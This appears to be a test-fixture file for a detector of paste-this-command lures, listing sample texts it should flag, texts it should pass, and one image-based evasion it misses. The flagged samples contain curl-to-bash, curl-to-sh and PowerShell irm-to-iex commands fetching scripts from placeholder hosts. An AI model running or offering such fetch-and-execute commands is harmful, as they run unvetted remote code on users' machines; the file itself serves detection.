import type { Examples } from "@doorward/core";

/** Texts that hand over a command which downloads and runs, and texts that do not. */
export const examples: Examples = {
  hits: [
    {
      name: "a set-up that pipes into a shell",
      files: {
        "README.md":
          "# Test\n\nOpen Terminal and paste this command:\n\n```sh\ncurl -fsSL https://install.example/tool.sh | bash\n```\n",
      },
    },
    {
      name: "a set-up for PowerShell",
      files: {
        "README.md":
          "# Test\n\nOpen PowerShell and paste this command:\n\n```powershell\nirm https://install.example/tool.ps1 | iex\n```\n",
      },
    },
    {
      name: "a fix for the microphone",
      files: { "fix.txt": "Open Terminal and paste this command:\n\n    curl -fsSL https://audio.example/fix | sh\n" },
    },
  ],
  misses: [
    {
      name: "a guide that asks to install packages",
      why: "Nothing is piped into an interpreter.",
      files: { "README.md": "# Shop\n\nOpen a terminal and run this command:\n\n```sh\nnpm install\n```\n" },
    },
    {
      name: "a guide that downloads data",
      why: "What comes is saved.",
      files: {
        "README.md":
          "# Shop\n\nRun this command:\n\n```sh\ncurl -fsSL https://data.example/list.json -o list.json\n```\n",
      },
    },
    {
      name: "a note about the clipboard",
      why: "It asks for nothing.",
      files: { "README.md": "# Shop\n\nThe editor keeps what you paste.\n" },
    },
  ],
  evasions: [
    {
      name: "the command in a picture",
      caughtBy: "nothing",
      files: { "README.md": "# Test\n\nType the command from the picture.\n\n![command](command.png)\n" },
    },
  ],
};
